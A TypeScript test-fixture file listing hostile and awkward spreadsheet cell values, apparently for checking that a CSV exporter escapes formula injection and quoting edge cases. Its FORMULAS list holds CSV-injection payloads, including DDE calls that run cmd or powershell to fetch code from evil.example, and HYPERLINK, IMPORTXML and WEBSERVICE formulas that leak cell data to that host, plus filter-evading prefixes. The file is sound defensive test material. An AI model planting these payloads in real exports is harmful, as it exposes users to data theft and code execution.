const TRIGGERS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
/** Prefixes that hide a formula from a filter. */
const DISGUISES = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\ufeff', '\u3000', "'", "''", "' ", '  \n\t ']
const FORMULAS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?leak="&A1,"Error, click for details")',
  'IMPORTXML(CONCAT("http://evil.example/?",CONCATENATE(A2:E2)),"//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  "rundll32|'URL.dll,OpenURL evil.example'!A",
  'DDE("cmd";"/C calc";"!A0")A0',
  "SUM(1+1)*cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  "         C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
  '1+1',
  '',
]

/** Separators after which some programs start a new cell or row. */
const SEPARATORS = [';', '\t', '\n', '\r', '\r\n', ';;', '\n\n', '";"', "\n'", '; ']

/** Text that a spreadsheet would compute: every start of a formula, behind every prefix or separator. */
export const HOSTILE_CELLS: readonly string[] = [
  ...DISGUISES.flatMap((disguise) => TRIGGERS.map((trigger) => `${disguise}${trigger}1+1`)),
  ...SEPARATORS.flatMap((separator) => TRIGGERS.map((trigger) => `Acme${separator}${trigger}1+1${separator}x`)),
  ...FORMULAS.map((formula) => `=${formula}`),
  ...FORMULAS.map((formula) => `@SUM(${formula})`),
  '\tx',
  '\rx',
  '\nx',
  '\u0001=1',
  '\u001b[31m',
  '\u007f',
  '-1',
  '+49 30 1234',
  '@ada',
]

/** Text that a faulty CSV writer corrupts: the classes of csv-spectrum, and others. */
export const AWKWARD_CELLS: readonly string[] = [
  'a,b',
  'say "hi"',
  '"',
  '""',
  '","',
  '"\r\n"',
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  'one\n\ntwo',
  '\\"',
  '\\',
  '{"a": "b", "c": 1}',
  'ʤ',
  '日本語',
  '😀',
  'ערב',
  'a\u0301',
  '\u202egnp.exe',
  '\u2028',
  '\ufeff',
  'NULL',
  'null',
  'true',
  '1e5',
  '007',
  '0x1F',
  'a;b',
  'a\tb',
  'a|b',
  ' padded ',
  'sep=;',
  "it's",
  "'quoted'",
  '#REF!',
  '%',
  'ID',
  '<script>alert(1)</script>',
]
